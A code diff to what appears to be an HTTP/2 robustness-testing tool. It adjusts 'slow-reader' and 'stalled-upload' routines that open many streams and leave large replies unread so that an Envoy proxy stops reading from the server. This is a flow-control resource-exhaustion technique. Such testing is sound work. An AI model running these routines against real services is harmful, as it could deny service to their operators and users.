@@ -1,6 +1,6 @@
 import { setTimeout as sleep } from "node:timers/promises";
 import { PATIENCE } from "./attack";
-import { beginNeighbour, message } from "./connection";
+import { beginNeighbour, type Connection, message } from "./connection";
 import { frame, headerFrames, SETTING, TYPE, uint32 } from "./frames";
 import { callFields, encode } from "./headers";
 import { endOf, endOfAll, endOfConnection, overHttp2 } from "./overHttp2";
@@ -51,8 +51,13 @@ export const tooManyStreams = overHttp2({
 /** Bytes of each unread reply: more than Envoy keeps of one, so that it stops reading from the server. */
 const REPLY = 256 * 1024;
 
-/** More than there are windows of a stream in a connection's window of 1 MiB. */
+/** More than there are windows of a stream in a connection's window of 1 MiB; fewer where a connection may have no more calls. */
 const UNREAD = 80;
+
+/** One call of the connection is left for someone else. */
+function unreadCalls({ maxStreams }: Connection): number {
+  return Math.max(1, Math.min(UNREAD, maxStreams - 1));
+}
 
 export const slowReader = overHttp2({
   name: "slow-reader",
@@ -64,7 +69,8 @@ export const slowReader = overHttp2({
   settings: { [SETTING.INITIAL_WINDOW_SIZE]: 0 },
   async attack(connection, _budget, { echo }) {
     const streams: number[] = [];
-    for (let count = 0; count < UNREAD; count += 1) streams.push(await connection.request(callFields(echo)));
+    for (let count = 0; count < unreadCalls(connection); count += 1)
+      streams.push(await connection.request(callFields(echo)));
     await Promise.all(streams.map((stream) => connection.data(stream, message(REPLY), true)));
     return endOfAll(connection, streams);
   },
@@ -78,7 +84,8 @@ export const stalledUpload = overHttp2({
   needs: "unread",
   async attack(connection, _budget, { unread }) {
     const streams: number[] = [];
-    for (let count = 0; count < UNREAD; count += 1) streams.push(await connection.request(callFields(unread)));
+    for (let count = 0; count < unreadCalls(connection); count += 1)
+      streams.push(await connection.request(callFields(unread)));
     const uploads = streams.map((stream) => connection.data(stream, message(REPLY)));
     // By then, what there is room for has been sent.
     await sleep(1500);
